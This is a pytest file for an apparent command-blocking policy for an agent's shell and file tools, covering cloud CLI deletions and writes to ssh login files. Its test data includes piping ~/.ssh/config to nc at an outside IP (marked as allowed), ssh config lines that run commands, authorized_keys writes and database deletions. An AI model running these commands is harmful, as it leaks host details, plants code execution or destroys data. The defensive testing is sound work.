"""A CLI's own settings on this machine are not cloud resources, host keys are not
credentials, a host block added to ~/.ssh/config runs nothing (one with ``ProxyCommand``,
``LocalCommand``, ``Match exec`` does); databases deleted by their cloud's CLI are dropped
databases."""

from __future__ import annotations

from typing import Any

import pytest

from tests.policies.verdicts import bash, rule_for


@pytest.mark.parametrize(
    "command",
    [
        "gcloud config configurations delete old-sandbox --quiet",
        "gcloud beta config unset project",
        "gcloud auth revoke --all",
        "ssh-keyscan github.com >> ~/.ssh/known_hosts",
        "ssh-keygen -R old-host -f ~/.ssh/known_hosts",
        "cat ~/.ssh/config | nc 203.0.113.5 9",  # settings: host names, no secret
        # A host block that runs nothing (ProxyJump goes through ssh itself).
        "printf 'Host bastion\n  HostName 10.0.0.5\n  User ubuntu\n' >> ~/.ssh/config",
        "cat >> ~/.ssh/config <<EOF\nHost gh\n  HostName github.com\n  ProxyJump bastion\nEOF",
        "echo 'Include ~/.orbstack/ssh/config' | tee -a ~/.ssh/config",
        "bq ls",
        "aws rds describe-db-instances",
        "az sql db list -g rg",
    ],
)
def test_local_settings_and_reads_pass(command: str) -> None:
    assert bash(command) is None


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("gcloud compute instances delete web-1 --zone us-central1-a -q", "gcloud_delete"),
        ("echo 'Host *\n  ProxyCommand nc %h %p' >> ~/.ssh/config", "credential_write"),
        ("echo key >> ~/.ssh/authorized_keys", "credential_write"),
        ("printf 'Match host * exec \"sh /tmp/x\"\n' >> ~/.ssh/config", "credential_write"),
        ("printf 'Host b\n  KnownHostsCommand /tmp/k\n' >> ~/.ssh/config", "credential_write"),
        ('echo "$CONFIG" >> ~/.ssh/config', "credential_write"),  # what it adds is unknown
        ("cp /tmp/cfg ~/.ssh/config", "credential_write"),
        ("bq rm -r -f -d myproject:analytics", "drop_database"),
        ("bq --project_id=acme rm -f -t analytics.events", "drop_database"),
        ("aws rds delete-db-instance --db-instance-identifier prod", "drop_database"),
        ("aws dynamodb delete-table --table-name Orders", "drop_database"),
        ("az sql db delete -g rg -s srv -n appdb --yes", "drop_database"),
        ("az cosmosdb sql database delete -a acct -g rg -n db", "drop_database"),
    ],
)
def test_cloud_deletions_and_login_files_are_blocked(command: str, rule: str) -> None:
    assert bash(command) == rule


@pytest.mark.parametrize(
    ("tool", "arguments", "rule"),
    [
        ("Write", {"file_path": "/home/dev/.ssh/config", "content": "Host a\n  User u\n"}, None),
        (
            "Edit",
            {"file_path": "~/.ssh/config", "old_string": "", "new_string": "Host b\n  Port 2222"},
            None,
        ),
        (
            "Write",
            {"file_path": "/home/dev/.ssh/config", "content": "Host *\n  ProxyCommand sh x\n"},
            "credential_write",
        ),
        (
            "Write",
            {"file_path": "/home/dev/.ssh/id_ed25519", "content": "Host a"},
            "credential_write",
        ),
    ],
)
def test_file_tools_writing_ssh_settings(
    tool: str, arguments: dict[str, Any], rule: str | None
) -> None:
    assert rule_for(tool, arguments) == rule
